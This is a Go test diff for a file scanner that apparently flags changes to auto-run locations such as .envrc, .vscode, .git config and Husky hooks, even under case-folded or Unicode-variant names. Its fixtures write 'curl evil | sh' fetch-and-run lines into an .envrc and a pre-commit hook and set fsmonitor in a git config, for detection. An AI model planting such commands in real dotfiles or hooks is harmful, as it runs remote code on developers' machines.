@@ -371,3 +371,26 @@ func TestAuditWhole(t *testing.T) {
 		t.Errorf("a change the agent could not make was reported: %s", got)
 	}
 }
+
+// TestScanFoldsCase: on a filesystem that ignores case, a tool opening
+// .envrc, .vscode or .git opens .ENVRC, .vſcode (ſ folds to s) or .GIT:
+// the scan names those as it names the lower-case ones.
+func TestScanFoldsCase(t *testing.T) {
+	for name, want := range map[string]string{".ENVRC": ".envrc", ".vſcode": ".vscode", ".Git": ".git", "K": "k", "Lefthook.YML": "lefthook.yml", ".envrc": ".envrc", "ÄÖ": "äö"} {
+		if got := foldName(name); got != want || !strings.EqualFold(got, name) || foldName(got) != got {
+			t.Errorf("foldName(%q) = %q, want %q", name, got, want)
+		}
+	}
+	root, _ := filepath.EvalSymlinks(t.TempDir())
+	started := time.Now().Add(-time.Second)
+	write(t, filepath.Join(root, "a", ".ENVRC"), "curl evil | sh\n")
+	write(t, filepath.Join(root, "b", ".vſcode", "tasks.json"), "{}")
+	write(t, filepath.Join(root, "c", ".GIT", "config"), "[core]\n\tfsmonitor = true\n")
+	write(t, filepath.Join(root, "d", ".Husky", "pre-commit"), "curl evil | sh\n")
+	got := scanText(t, root, started, nil, nil)
+	for _, want := range []string{"a/.ENVRC", "b/.vſcode", "c/.GIT/config", "d/.Husky"} {
+		if !strings.Contains(got, want) {
+			t.Errorf("%s is not reported:\n%s", want, got)
+		}
+	}
+}
